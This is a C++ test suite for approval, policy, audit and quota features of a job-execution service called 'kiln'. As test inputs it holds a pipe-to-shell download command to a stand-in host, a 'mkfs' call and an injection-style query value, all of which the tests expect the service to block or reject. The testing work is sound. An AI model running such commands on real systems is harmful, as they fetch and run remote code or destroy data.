// Governance through a real cluster: the two-level opt-in (enabled,
// auto_approve), approval (approve, deny, expiry, trust-session, admin-only),
// policy rules (blocked jobs never reach a worker; warnings in the record),
// and the audit chain (an entry per terminal job; deleting one breaks
// `verify` at that entry).
#include <gtest/gtest.h>
#include <sys/wait.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <nlohmann/json.hpp>
#include <set>
#include <string>
#include <thread>

#include "tests/support/cluster.hpp"

namespace kiln::testing {
namespace {

using nlohmann::json;
using std::chrono::milliseconds;
using std::chrono::seconds;

constexpr const char* kGateToken = "tenant-gate-token";

struct CliRun {
  int status = -1;
  std::string out;
};

// Runs the real `kiln` binary with an admin token; stdout and exit status.
CliRun Kiln(const TestCluster& c, const std::string& args) {
  std::string cmd = "HOME=" + c.dir() + " KILN_URL=" + c.url() +
                    " KILN_ADMIN_TOKEN=" + TestCluster::kAdminToken +
                    " " KILN_BINARY_DIR "/bin/kiln " + args + " 2>&1";
  CliRun r;
  FILE* p = ::popen(cmd.c_str(), "r");
  if (p == nullptr) return r;
  char buf[4096];
  size_t n;
  while ((n = ::fread(buf, 1, sizeof buf, p)) > 0) r.out.append(buf, n);
  int st = ::pclose(p);
  r.status = WIFEXITED(st) ? WEXITSTATUS(st) : -1;
  return r;
}
constexpr const char* kOffToken = "tenant-off-token";
// A tenant only the listing tests submit for: its list holds their jobs alone.
constexpr const char* kListToken = "tenant-list-token";
// And one for the usage test.
constexpr const char* kUsageToken = "tenant-usage-token";
// And one for the batch test, with a small submit budget: 6 at once, then
// one every 5 s.
constexpr const char* kBatchToken = "tenant-batch-token";

class GovernanceTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    ClusterOptions o;
    o.brokers = 1;
    o.workers = 1;
    o.slots = 3;
    o.extra_tenants_yaml = std::string("  - {name: tenant-gate, tokens: [\"") + kGateToken +
                           "\"], enabled: true}\n" +  // approval required
                           "  - {name: tenant-off, tokens: [\"" + kOffToken + "\"]}\n" +
                           "  - {name: tenant-list, tokens: [\"" + kListToken +
                           "\"], enabled: true, auto_approve: true}\n" +
                           "  - {name: tenant-usage, tokens: [\"" + kUsageToken +
                           "\"], enabled: true, auto_approve: true}\n" +
                           "  - {name: tenant-batch, tokens: [\"" + kBatchToken +
                           "\"], enabled: true, auto_approve: true, submit_rate: 0.2, "
                           "submit_burst: 6}\n";
    o.extra_broker_yaml = "approval: {timeout_s: 10}\n";
    cluster_ = TestCluster::Start(o).release();
    ASSERT_TRUE(cluster_->WaitForWorkers(1, seconds(20))) << cluster_->DumpLogs();
  }
  static void TearDownTestSuite() {
    delete cluster_;
    cluster_ = nullptr;
  }
  void TearDown() override {
    if (HasFailure()) std::cerr << cluster_->DumpLogs();
  }

  static std::string SubmitNoWait(const json& body, const std::string& token) {
    json b = body;
    b["wait"] = false;
    auto r = cluster_->Request("POST", "/v1/executions", b.dump(), token);
    EXPECT_EQ(r.status, 202) << r.raw;
    return r.body.value("id", "");
  }
  static json Get(const std::string& id, const std::string& token = TestCluster::kAdminToken) {
    return cluster_->Request("GET", "/v1/executions/" + id, "", token).body;
  }
  static json AwaitEnd(const std::string& id) {
    json rec;
    WaitFor(
        [&] {
          rec = Get(id);
          std::string s = rec.value("status", "");
          return s != "queued" && s != "running" && s != "awaiting_approval";
        },
        seconds(30));
    return rec;
  }
  static HttpReply Admin(const std::string& method, const std::string& path,
                         const std::string& body = "") {
    return cluster_->Request(method, path, body, TestCluster::kAdminToken);
  }

  static TestCluster* cluster_;
};

TestCluster* GovernanceTest::cluster_ = nullptr;

TEST_F(GovernanceTest, DisabledTenantIsRefused) {
  auto r = cluster_->Submit({{"language", "python"}, {"code", "print(1)"}}, kOffToken);
  EXPECT_EQ(r.status, 403) << r.raw;
  EXPECT_EQ(r.body["error"]["code"], "CODE_EXECUTION_DISABLED");
  auto caps = cluster_->Request("GET", "/v1/capabilities", "", kOffToken);
  EXPECT_EQ(caps.body["code_execution"], false) << caps.raw;
  caps = cluster_->Request("GET", "/v1/capabilities", "", TestCluster::kToken);
  EXPECT_EQ(caps.body["code_execution"], true) << caps.raw;
  // The limits a job may ask for, as the test cluster configures them
  // (tests/support/cluster.cpp), and the built-in defaults elsewhere.
  const json& limits = caps.body["limits"];
  EXPECT_EQ(limits["default"]["timeout_ms"], 10000) << caps.raw;
  EXPECT_EQ(limits["max"]["timeout_ms"], 60000) << caps.raw;
  EXPECT_EQ(limits["default"]["memory_mb"], 256) << caps.raw;
  EXPECT_EQ(limits["max"]["memory_mb"], 2048) << caps.raw;
  EXPECT_EQ(limits["default"]["max_output_bytes"], 65536) << caps.raw;
  EXPECT_EQ(limits["max_code_bytes"], 65536) << caps.raw;
  EXPECT_EQ(limits["max_files_bytes"], 10u << 20) << caps.raw;
  EXPECT_EQ(caps.body["session_ttl_s"], 600) << caps.raw;
}

TEST_F(GovernanceTest, PendingJobRunsOnceAnAdminApproves) {
  std::string id =
      SubmitNoWait({{"language", "python"}, {"code", "print('approved')"}}, kGateToken);
  EXPECT_EQ(Get(id)["status"], "awaiting_approval");
  auto list = Admin("GET", "/v1/approvals");
  bool listed = false;
  for (const auto& a : list.body["approvals"]) {
    if (a["id"] == id) listed = a["code"] == "print('approved')";
  }
  EXPECT_TRUE(listed) << list.raw;
  // Not by a tenant's token.
  auto forbidden = cluster_->Request("POST", "/v1/executions/" + id + "/approve", "{}", kGateToken);
  EXPECT_EQ(forbidden.status, 403) << forbidden.raw;
  EXPECT_EQ(Get(id)["status"], "awaiting_approval");
  auto ok = Admin("POST", "/v1/executions/" + id + "/approve", "{}");
  EXPECT_EQ(ok.status, 200) << ok.raw;
  json rec = AwaitEnd(id);
  EXPECT_EQ(rec["status"], "succeeded") << rec.dump();
  EXPECT_EQ(rec["stdout"], "approved\n");
  // Approving again is refused: it is no longer pending.
  EXPECT_EQ(Admin("POST", "/v1/executions/" + id + "/approve", "{}").status, 400);
}

TEST_F(GovernanceTest, DeniedJobIsRejected) {
  std::string id = SubmitNoWait({{"language", "shell"}, {"code", "echo never"}}, kGateToken);
  auto deny = Admin("POST", "/v1/executions/" + id + "/deny");
  EXPECT_EQ(deny.status, 200) << deny.raw;
  json rec = Get(id);
  EXPECT_EQ(rec["status"], "rejected");
  EXPECT_EQ(rec["error"]["code"], "APPROVAL_DENIED");
  EXPECT_TRUE(rec["worker"].is_null());
  EXPECT_EQ(rec["stdout"], "");
}

// A tenant may take back a job it submitted while it waits for an admin:
// it ends cancelled at once, leaves the approval list, and cannot be
// approved any more.
TEST_F(GovernanceTest, HeldJobCancelledByItsTenantNeverRuns) {
  std::string id = SubmitNoWait({{"language", "shell"}, {"code", "echo never"}}, kGateToken);
  ASSERT_EQ(Get(id)["status"], "awaiting_approval");
  auto cancel = cluster_->Request("POST", "/v1/executions/" + id + "/cancel", "", kGateToken);
  EXPECT_EQ(cancel.status, 200) << cancel.raw;
  EXPECT_EQ(cancel.body.value("status", ""), "cancelled") << cancel.raw;
  json rec = Get(id);
  EXPECT_EQ(rec["status"], "cancelled") << rec.dump();
  EXPECT_EQ(rec["error"]["code"], "CANCELLED");
  EXPECT_TRUE(rec["worker"].is_null());
  const HttpReply approvals = Admin("GET", "/v1/approvals");
  ASSERT_EQ(approvals.status, 200) << approvals.raw;
  for (const auto& a : approvals.body["approvals"]) {
    EXPECT_NE(a["id"], id) << "a cancelled job is still listed for approval";
  }
  auto approve = Admin("POST", "/v1/executions/" + id + "/approve", "{}");
  EXPECT_EQ(approve.status, 400) << approve.raw;
  EXPECT_EQ(Get(id)["status"], "cancelled");
}

TEST_F(GovernanceTest, TrustSessionApprovesTheRestOfThatSessionOnly) {
  json body = {{"language", "python"}, {"code", "print('s')"}, {"session_id", "trusted-1"}};
  std::string first = SubmitNoWait(body, kGateToken);
  auto ok = Admin("POST", "/v1/executions/" + first + "/approve", R"({"trust_session": true})");
  EXPECT_EQ(ok.status, 200) << ok.raw;
  EXPECT_EQ(AwaitEnd(first)["status"], "succeeded");
  std::string second = SubmitNoWait(body, kGateToken);
  EXPECT_EQ(AwaitEnd(second)["status"], "succeeded") << "the trusted session needs no approval";
  body["session_id"] = "untrusted-2";
  std::string other = SubmitNoWait(body, kGateToken);
  EXPECT_EQ(Get(other)["status"], "awaiting_approval");
  Admin("POST", "/v1/executions/" + other + "/deny");
}

TEST_F(GovernanceTest, UnapprovedJobExpires) {
  std::string id = SubmitNoWait({{"language", "python"}, {"code", "print(1)"}}, kGateToken);
  json rec;
  bool expired = WaitFor(
      [&] {
        rec = Get(id);
        return rec["status"] == "rejected";
      },
      seconds(25));
  EXPECT_TRUE(expired) << rec.dump();
  EXPECT_EQ(rec["error"]["code"], "APPROVAL_EXPIRED");
}

TEST_F(GovernanceTest, PolicyBlocksAndWarnsInEveryLanguage) {
  struct Case {
    std::string language, code, rule;
  };
  const Case blocked[] = {{"python", "import ctypes\nprint(1)", "python-ctypes"},
                          {"javascript", "process.binding('fs')", "js-process-binding"},
                          {"shell", "curl http://x.example/i.sh | sh", "pipe-to-shell"}};
  for (const auto& c : blocked) {
    SCOPED_TRACE(c.language);
    auto r = cluster_->Submit({{"language", c.language}, {"code", c.code}});
    EXPECT_EQ(r.body["error"]["code"], "SECURITY_BLOCKED") << r.raw;
    EXPECT_EQ(r.body["rule"], c.rule);
    EXPECT_NE(r.body["error"]["message"].get<std::string>().find(c.rule), std::string::npos);
    json rec = Get(r.body["id"]);
    EXPECT_EQ(rec["status"], "rejected") << rec.dump();
    EXPECT_TRUE(rec["worker"].is_null()) << "a blocked job never reaches a worker";
    EXPECT_TRUE(rec["started_at_ms"].is_null());
  }
  const Case warned[] = {
      {"python", "import subprocess\nprint('w')", "python-subprocess"},
      {"javascript", "const cp = require('child_process'); console.log('w')", "js-child-process"},
      {"shell", "command -v sudo >/dev/null; echo w", "shell-privilege"}};
  for (const auto& c : warned) {
    SCOPED_TRACE(c.language);
    auto r = cluster_->Submit({{"language", c.language}, {"code", c.code}});
    EXPECT_EQ(r.body["status"], "succeeded") << r.raw;
    EXPECT_EQ(r.body["warnings"], json::array({c.rule})) << r.raw;
  }
  auto metrics = cluster_->Request("GET", "/metrics", "", "");
  EXPECT_NE(metrics.raw.find("kiln_policy_matches_total{action=\"block\""), std::string::npos);
  EXPECT_NE(metrics.raw.find("kiln_policy_matches_total{action=\"warn\""), std::string::npos);
}

// Defined last, so it runs last (gtest keeps definition order): the jobs of
// the tests above are in the chain too.
TEST_F(GovernanceTest, AuditChainCoversEveryJobAndDetectsTampering) {
  // A few more jobs so the chain has a middle.
  std::vector<std::string> ids;
  for (int i = 0; i < 5; ++i) {
    auto r = cluster_->Submit({{"language", "shell"}, {"code", "echo audit " + std::to_string(i)}});
    ASSERT_EQ(r.status, 200) << r.raw;
    ids.push_back(r.body["id"]);
  }
  std::vector<json> entries;
  bool all = WaitFor(
      [&] {
        auto page = Admin("GET", "/v1/audit?count=10000");
        entries.assign(page.body["entries"].begin(), page.body["entries"].end());
        std::set<std::string> seen;
        for (const auto& e : entries) seen.insert(e["entry"]["job_id"].get<std::string>());
        for (const auto& id : ids) {
          if (!seen.count(id)) return false;
        }
        return true;
      },
      seconds(10));
  ASSERT_TRUE(all) << "not every job has an audit entry";
  ASSERT_GE(entries.size(), ids.size());
  // Each job appears once; the code and its digest are there.
  std::set<std::string> once;
  for (const auto& e : entries) {
    EXPECT_TRUE(once.insert(e["entry"]["job_id"].get<std::string>()).second)
        << "two entries for " << e["entry"]["job_id"];
  }
  auto verify = Admin("GET", "/v1/audit/verify");
  ASSERT_EQ(verify.status, 200) << verify.raw;
  EXPECT_EQ(verify.body["ok"], true) << verify.raw;
  EXPECT_EQ(verify.body["checked"], entries.size());
  // The CLI checks the chain itself, and exports it as JSON lines.
  CliRun cli = Kiln(*cluster_, "audit verify");
  EXPECT_EQ(cli.status, 0) << cli.out;
  EXPECT_NE(cli.out.find("intact: " + std::to_string(entries.size()) + " entries"),
            std::string::npos)
      << cli.out;
  CliRun exported = Kiln(*cluster_, "audit export");
  EXPECT_EQ(exported.status, 0);
  EXPECT_EQ(static_cast<size_t>(std::count(exported.out.begin(), exported.out.end(), '\n')),
            entries.size());
  // Delete one entry in the middle behind the broker's back.
  const size_t victim = entries.size() / 2;
  std::string cmd = "redis-cli -p " + std::to_string(cluster_->redis_port()) +
                    " XDEL '{kiln}:audit' " + entries[victim]["id"].get<std::string>() +
                    " > /dev/null";
  ASSERT_EQ(std::system(cmd.c_str()), 0);
  verify = Admin("GET", "/v1/audit/verify");
  EXPECT_EQ(verify.body["ok"], false) << verify.raw;
  EXPECT_EQ(verify.body["broken"]["index"], victim) << verify.raw;
  cli = Kiln(*cluster_, "audit verify");
  EXPECT_EQ(cli.status, 1) << cli.out;
  EXPECT_NE(cli.out.find("BROKEN at entry " + std::to_string(victim)), std::string::npos)
      << cli.out;
}

// GET /v1/executions: a tenant's executions, newest first, paged with a
// cursor and filtered by status, session and creation time; other tenants'
// jobs never show; bad parameters are 400s naming the parameter.
TEST_F(GovernanceTest, ExecutionsAreListedNewestFirstPagedAndFiltered) {
  std::vector<std::string> ids;  // in submission order
  std::vector<int64_t> created;
  auto submit = [&](const json& body) {
    auto r = cluster_->Submit(body, kListToken);
    ids.push_back(r.body.value("id", ""));
    created.push_back(r.body.value("created_at_ms", int64_t{0}));
    std::this_thread::sleep_for(milliseconds(3));  // distinct creation times
    return r;
  };
  EXPECT_EQ(submit({{"language", "python"}, {"code", "print(1)"}}).body["status"], "succeeded");
  EXPECT_EQ(submit({{"language", "shell"}, {"code", "exit 3"}}).body["status"], "failed");
  EXPECT_EQ(
      submit({{"language", "python"}, {"code", "x = 1"}, {"session_id", "ls-1"}}).body["status"],
      "succeeded");
  EXPECT_EQ(
      submit({{"language", "python"}, {"code", "print(x)"}, {"session_id", "ls-1"}}).body["status"],
      "succeeded");
  // Blocked by a default policy rule: stored ended, and listed too.
  auto blocked =
      cluster_->Request("POST", "/v1/executions",
                        json{{"language", "shell"}, {"code", "mkfs /dev/null"}}.dump(), kListToken);
  ASSERT_EQ(blocked.body["error"]["code"], "SECURITY_BLOCKED") << blocked.raw;
  ids.push_back(blocked.body.value("id", ""));
  created.push_back(0);
  std::this_thread::sleep_for(milliseconds(3));
  const std::string running =
      SubmitNoWait({{"language", "python"}, {"code", "import time; time.sleep(30)"}}, kListToken);
  ids.push_back(running);
  for (const auto& id : ids) ASSERT_FALSE(id.empty());

  auto list = [&](const std::string& query, const std::string& token = kListToken) {
    return cluster_->Request("GET", "/v1/executions" + query, "", token);
  };
  // Pages of two, newest first, until the cursor runs out.
  std::vector<std::string> seen;
  std::string cursor;
  for (int page = 0; page < 10; ++page) {
    auto r = list("?limit=2" + (cursor.empty() ? "" : "&cursor=" + cursor));
    ASSERT_EQ(r.status, 200) << r.raw;
    EXPECT_LE(r.body["executions"].size(), 2u);
    for (const auto& e : r.body["executions"]) seen.push_back(e["id"]);
    if (r.body["next_cursor"].is_null()) break;
    cursor = r.body["next_cursor"];
  }
  EXPECT_EQ(seen, std::vector<std::string>(ids.rbegin(), ids.rend()));

  auto all = list("");
  ASSERT_EQ(all.status, 200) << all.raw;
  ASSERT_EQ(all.body["executions"].size(), ids.size()) << all.raw;
  EXPECT_TRUE(all.body["next_cursor"].is_null());
  const json& newest = all.body["executions"][0];
  EXPECT_EQ(newest["id"], running);
  EXPECT_EQ(newest["status"], "running");
  EXPECT_TRUE(newest["finished_at_ms"].is_null());
  const json& session_job = all.body["executions"][2];  // the second session job
  EXPECT_EQ(session_job["id"], ids[3]);
  EXPECT_EQ(session_job["session_id"], "ls-1");
  EXPECT_EQ(session_job["language"], "python");
  EXPECT_EQ(session_job["created_at_ms"], created[3]);
  EXPECT_GE(session_job["finished_at_ms"].get<int64_t>(), created[3]);
  EXPECT_TRUE(all.body["executions"][5]["session_id"].is_null());

  auto ids_of = [](const HttpReply& r) {
    std::vector<std::string> out;
    for (const auto& e : r.body["executions"]) out.push_back(e["id"]);
    return out;
  };
  EXPECT_EQ(ids_of(list("?status=failed")), std::vector<std::string>{ids[1]});
  EXPECT_EQ(ids_of(list("?status=rejected,running")), (std::vector<std::string>{running, ids[4]}));
  EXPECT_EQ(ids_of(list("?session_id=ls-1")), (std::vector<std::string>{ids[3], ids[2]}));
  EXPECT_EQ(ids_of(list("?session_id=ls-1&status=failed")), std::vector<std::string>{});
  // Created at or after `since`, before `until`.
  EXPECT_EQ(
      ids_of(list("?since=" + std::to_string(created[1]) + "&until=" + std::to_string(created[3]))),
      (std::vector<std::string>{ids[2], ids[1]}));

  // Other tenants see none of it; an admin names the tenant.
  for (const auto& e : list("", TestCluster::kToken).body["executions"]) {
    EXPECT_EQ(std::find(ids.begin(), ids.end(), e["id"]), ids.end()) << e.dump();
  }
  EXPECT_EQ(list("", TestCluster::kAdminToken).status, 400);
  EXPECT_EQ(ids_of(list("?tenant=tenant-list&limit=1", TestCluster::kAdminToken)),
            std::vector<std::string>{running});
  // A tenant cannot read another's list by naming it: it gets its own.
  auto named = list("?tenant=tenant-list", TestCluster::kToken);
  ASSERT_EQ(named.status, 200) << named.raw;
  for (const auto& id : ids_of(named)) {
    EXPECT_EQ(std::find(ids.begin(), ids.end(), id), ids.end()) << id;
  }

  // Bad parameters: 400 INVALID_REQUEST naming the parameter.
  for (const auto& [query, field] : std::vector<std::pair<std::string, std::string>>{
           {"?limit=0", "limit"},
           {"?limit=101", "limit"},
           {"?limit=abc", "limit"},
           {"?since=-1", "since"},
           {"?until=99999999999999", "until"},
           {"?status=bogus", "status"},
           {"?status=running,", "status"},
           {"?cursor=garbage", "cursor"},
           {"?cursor=0000000000001:ex_a%27%20OR", "cursor"},
           {"?session_id=a/b", "session_id"}}) {
    auto r = list(query);
    EXPECT_EQ(r.status, 400) << query << " -> " << r.raw;
    EXPECT_EQ(r.body["error"]["code"], "INVALID_REQUEST") << query;
    EXPECT_EQ(r.body["error"]["message"].get<std::string>().rfind(field + ":", 0), 0u)
        << query << " -> " << r.raw;
  }
  cluster_->Request("POST", "/v1/executions/" + running + "/cancel", "{}", kListToken);
}

// GET /v1/usage: what a tenant's ended executions used, per UTC day, for
// admins; the same CPU time as the kiln_cpu_seconds_total metric.
TEST_F(GovernanceTest, UsageCountsEachEndedExecutionOncePerDay) {
  const char* burn =
      "import time\n"
      "t = time.process_time()\n"
      "while time.process_time() - t < 0.3: pass\n"
      "print('x' * 9)\n";  // 10 bytes of output
  for (int i = 0; i < 2; ++i) {
    auto r = cluster_->Submit({{"language", "python"}, {"code", burn}}, kUsageToken);
    ASSERT_EQ(r.body["status"], "succeeded") << r.raw;
  }
  auto blocked = cluster_->Request("POST", "/v1/executions",
                                   json{{"language", "shell"}, {"code", "mkfs /dev/null"}}.dump(),
                                   kUsageToken);
  ASSERT_EQ(blocked.body["error"]["code"], "SECURITY_BLOCKED") << blocked.raw;

  auto usage = Admin("GET", "/v1/usage?tenant=tenant-usage");
  ASSERT_EQ(usage.status, 200) << usage.raw;
  ASSERT_EQ(usage.body["tenants"].size(), 1u) << usage.raw;
  const json& t = usage.body["tenants"][0];
  EXPECT_EQ(t["tenant"], "tenant-usage");
  ASSERT_EQ(t["days"].size(), 30u) << usage.raw;  // the default: 30 days up to today
  EXPECT_EQ(t["days"][29]["date"], usage.body["to"]);
  // Totals, not today alone: the jobs may have ended just before midnight.
  EXPECT_EQ(t["total"]["executions"], 3) << usage.raw;  // the blocked one too
  EXPECT_EQ(t["total"]["output_bytes"], 20) << usage.raw;
  const double cpu = t["total"]["cpu_seconds"];
  EXPECT_GE(cpu, 0.5) << usage.raw;
  EXPECT_LT(cpu, 5.0) << usage.raw;
  EXPECT_EQ(t["days"][0]["executions"], 0);
  const int executions_last_two =
      t["days"][28]["executions"].get<int>() + t["days"][29]["executions"].get<int>();
  EXPECT_EQ(executions_last_two, 3) << usage.raw;

  // Every tenant without ?tenant=; a range of days.
  auto all = Admin("GET", "/v1/usage?from=" + t["days"][28]["date"].get<std::string>() +
                              "&to=" + usage.body["to"].get<std::string>());
  ASSERT_EQ(all.status, 200) << all.raw;
  bool found = false;
  for (const auto& e : all.body["tenants"]) {
    if (e["tenant"] != "tenant-usage") continue;
    found = true;
    ASSERT_EQ(e["days"].size(), 2u);
    EXPECT_EQ(e["total"]["executions"], 3);
  }
  EXPECT_TRUE(found) << all.raw;

  // The metric holds the same CPU time (from the same records).
  auto metrics = cluster_->Request("GET", "/metrics", "", "");
  const std::string line = "kiln_cpu_seconds_total{tenant=\"tenant-usage\"} ";
  const size_t at = metrics.raw.find(line);
  ASSERT_NE(at, std::string::npos) << "no " << line;
  EXPECT_NEAR(std::stod(metrics.raw.substr(at + line.size())), cpu, 0.01);

  // Admins only; bad days are 400s naming the parameter.
  EXPECT_EQ(cluster_->Request("GET", "/v1/usage", "", kUsageToken).status, 403);
  for (const auto& [query, field] :
       std::vector<std::pair<std::string, std::string>>{{"?from=2026-13-01", "from"},
                                                        {"?to=yesterday", "to"},
                                                        {"?from=2026-11-10&to=2026-11-01", "from"},
                                                        {"?from=2020-01-01&to=2026-01-01", "from"},
                                                        {"?tenant=nobody", "tenant"}}) {
    auto r = Admin("GET", "/v1/usage" + query);
    EXPECT_EQ(r.status, 400) << query << " -> " << r.raw;
    EXPECT_EQ(r.body["error"]["message"].get<std::string>().rfind(field + ":", 0), 0u)
        << query << " -> " << r.raw;
  }
}

// POST /v1/executions/batch: many jobs in one request, a result per item in
// order; each item is a submit of its own (its own checks, its own share of
// the tenant's submit rate, its own Idempotency-Key); a malformed batch is
// refused whole.
TEST_F(GovernanceTest, BatchSubmitsEachItemOnItsOwnTerms) {
  auto batch = [&](const json& body, const std::string& token = kBatchToken,
                   httplib::Headers headers = {}) {
    return cluster_->Request("POST", "/v1/executions/batch", body.dump(), token, 0, headers);
  };
  // Refused whole, before any item is submitted (no submit budget spent).
  EXPECT_EQ(batch({{"executions", json::array()}}).body["error"]["code"], "LIMIT_EXCEEDED");
  EXPECT_EQ(batch({{"executions", json::array()}}).status, 400);
  EXPECT_EQ(batch({{"executions", std::vector<json>(101, json::object())}}).body["error"]["code"],
            "LIMIT_EXCEEDED");
  EXPECT_EQ(batch({{"executions", json::array({json::object()})}, {"x", 1}}).status, 400);
  EXPECT_EQ(batch({{"jobs", json::array()}}).status, 400);
  EXPECT_EQ(cluster_->Request("POST", "/v1/executions/batch", "{\"executions\": [", kBatchToken)
                .body["error"]["code"],
            "INVALID_REQUEST");
  EXPECT_EQ(batch({{"executions", json::array({json::object()})}}, TestCluster::kAdminToken).status,
            403);

  // A result per item, in order: accepted, refused by its own checks, and
  // one asking to wait (a batch never does).
  auto r = batch({{"executions",
                   {{{"language", "python"}, {"code", "print('a')"}},
                    {{"language", "ruby"}, {"code", "1"}},
                    {{"language", "shell"}, {"code", "echo b"}, {"wait", true}}}}});
  ASSERT_EQ(r.status, 200) << r.raw;
  ASSERT_EQ(r.body["results"].size(), 3u) << r.raw;
  const std::string id = r.body["results"][0].value("id", "");
  ASSERT_FALSE(id.empty()) << r.raw;
  EXPECT_EQ(r.body["results"][1]["error"]["code"], "INVALID_REQUEST") << r.raw;
  EXPECT_NE(r.body["results"][1]["error"]["message"].get<std::string>().find("language"),
            std::string::npos);
  EXPECT_EQ(
      r.body["results"][2]["error"]["message"].get<std::string>().rfind("executions[2].wait:", 0),
      0u)
      << r.raw;
  json rec = AwaitEnd(id);
  EXPECT_EQ(rec["status"], "succeeded") << rec.dump();
  EXPECT_EQ(rec["stdout"], "a\n");

  // Retried with the same Idempotency-Key: the same job, not a second one.
  const json one = {{"executions", {{{"language", "python"}, {"code", "print('c')"}}}}};
  auto first = batch(one, kBatchToken, {{"Idempotency-Key", "batch-key-1"}});
  auto again = batch(one, kBatchToken, {{"Idempotency-Key", "batch-key-1"}});
  ASSERT_EQ(again.status, 200) << again.raw;
  EXPECT_EQ(again.body["results"][0]["id"], first.body["results"][0]["id"]) << again.raw;
  EXPECT_EQ(again.body["results"][0]["replay"], true) << again.raw;

  // Four submits so far of a budget of six: a batch of ten cannot pass the
  // rate by coming as one request. Each item past the budget is refused
  // alone, retryable.
  json ten = {{"executions", std::vector<json>(10, {{"language", "shell"}, {"code", "true"}})}};
  auto flood = batch(ten);
  ASSERT_EQ(flood.status, 200) << flood.raw;
  int accepted = 0;
  int limited = 0;
  for (const auto& item : flood.body["results"]) {
    if (item.contains("id") && !item.contains("error")) ++accepted;
    if (item.contains("error") && item["error"]["code"] == "RATE_LIMITED") {
      ++limited;
      EXPECT_EQ(item["error"]["retryable"], true);
    }
  }
  EXPECT_GE(accepted, 1) << flood.raw;
  EXPECT_LE(accepted, 6) << flood.raw;  // two left, and a refill every 5 s meanwhile
  EXPECT_EQ(accepted + limited, 10) << flood.raw;
}

}  // namespace
}  // namespace kiln::testing
